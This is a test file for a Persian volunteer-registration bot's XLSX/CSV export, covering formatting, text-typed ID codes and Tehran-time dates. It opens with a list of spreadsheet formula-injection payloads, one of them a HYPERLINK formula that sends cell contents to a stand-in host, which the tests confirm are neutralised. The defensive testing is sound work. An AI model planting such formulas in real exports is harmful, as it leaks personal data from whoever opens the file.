"""Exports never carry a live formula: every text cell of XLSX and CSV is inert."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.services.exports import ExportService

HOSTILE = ['=HYPERLINK("http://x/?d="&C2&D2,"…")', "-2+3", "+98 912", "@SUM(A1)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_in_any_cell_stays_text_in_xlsx_and_csv(value):
    rows = [["نام", "مرکز"], [value, "مرکز " + value], ["0499370899", "مرکز عادی"]]
    sheet = load_workbook(io.BytesIO(ExportService.to_xlsx(rows, "sheet"))).active
    cells = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    shown = cells[0][0]
    # Shown, not run (a carriage return is stored escaped, as the format wants it).
    assert shown.data_type == "s" and shown.value.replace("_x000D_", "\r").lstrip() == value.lstrip()
    assert cells[1][0].value == "0499370899"
    parsed = list(csv.reader(io.StringIO(ExportService.to_csv(rows).decode("utf-8-sig"))))
    assert parsed[1][0] == f"'{value}" and parsed[1][1] == "مرکز " + value
    assert parsed[2] == ["0499370899", "مرکز عادی"]  # ordinary cells untouched


def test_a_spreadsheet_reads_well_bold_filtering_header_fitted_columns_text_codes():
    rows = [["کد پیگیری", "نام و نام خانوادگی", "کد ملی", "پیام‌رسان"],
            ["41750001", "مریم احمدی", "0013542419", "بله"],
            ["41750002", "زهرا کریمی‌نژاد اصفهانی", "0499370899", "تلگرام"]]
    sheet = load_workbook(io.BytesIO(ExportService.to_xlsx(rows, "یاریگران"))).active
    header = [cell for cell in sheet[1]]
    assert all(cell.font.b for cell in header) and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3" and sheet.sheet_view.rightToLeft
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["B"] > widths["D"] and all(8 <= w <= 45 for w in widths.values())
    codes = [sheet.cell(row=r, column=3) for r in (2, 3)]
    assert [(c.value, c.data_type) for c in codes] == [("0013542419", "s"), ("0499370899", "s")]


def test_the_messenger_is_named_as_people_say_it():
    from bot.i18n import I18n
    from storage.models import ExportRow, Status

    t = I18n.load("fa", ZoneInfo("Asia/Tehran")).translator("fa")
    row = ExportRow("41750001", "مریم احمدی", "0013542419", "09121234567", "1996-09-11", False, "female",
                    "همدان", "ملایر", "مرکز", "4175", (1,), ("sat",), ("morning",), Status.PENDING,
                    "2026-11-20T08:00:00+00:00", "2026-11-20T08:00:00+00:00", None, "bale")
    cells = ExportService(None, None, None, None)._table(t, [row], {1: "سلامت"})[1]  # type: ignore[arg-type]
    assert cells[-1] == "بله" and "bale" not in cells


def test_an_export_of_nobody_still_has_its_header():
    sheet = load_workbook(io.BytesIO(ExportService.to_xlsx([["کد پیگیری", "نام"]], "یاریگران"))).active
    assert list(sheet.iter_rows(values_only=True)) == [("کد پیگیری", "نام")] and sheet["A1"].font.b


def test_a_released_registration_exports_with_empty_cells():
    from bot.i18n import I18n
    from storage.models import ExportRow, Status

    t = I18n.load("fa", ZoneInfo("Asia/Tehran")).translator("fa")
    released = ExportRow("41750002", "زهرا کریمی", None, None, "1996-09-11", False, "female",  # type: ignore[arg-type]
                         "همدان", "ملایر", "مرکز", "4175", (1,), ("sat",), ("morning",), Status.WITHDRAWN,
                         "2026-11-20T08:00:00+00:00", "2026-11-20T08:00:00+00:00", None, "telegram")
    rows = ExportService(None, None, None, None)._table(t, [released], {1: "سلامت"})  # type: ignore[arg-type]
    assert rows[1][2:4] == ["", ""]
    sheet = load_workbook(io.BytesIO(ExportService.to_xlsx(rows, "یاریگران"))).active
    assert sheet.cell(row=2, column=1).value == "41750002" and sheet.cell(row=2, column=3).value is None


def test_moments_are_shown_in_tehran_time_across_midnight_and_from_any_offset():
    from bot.i18n import I18n
    from storage.models import ExportRow, Status

    t = I18n.load("fa", ZoneInfo("Asia/Tehran")).translator("fa")
    late = ExportRow("41750003", "زهرا کریمی", "0013542419", "09121234567", "1996-09-11", False, "female",
                     "همدان", "ملایر", "مرکز", "4175", (1,), ("sat",), ("morning",), Status.PENDING,
                     "2026-11-20T22:00:00+00:00", "2026-11-20T23:45:00+01:00", "2026-11-20T08:00:00",
                     "telegram")
    cells = ExportService(None, None, None, None)._table(t, [late], {1: "سلامت"})[1]  # type: ignore[arg-type]
    created, updated, contacted = cells[18:21]
    # 22:00 UTC is 01:30 the next day in Tehran; 23:45 at +01:00 is 02:15 there; a moment stored
    # without an offset is read as UTC.
    assert (created, updated, contacted) == ("1405/08/30 01:30", "1405/08/30 02:15", "1405/08/29 11:30")
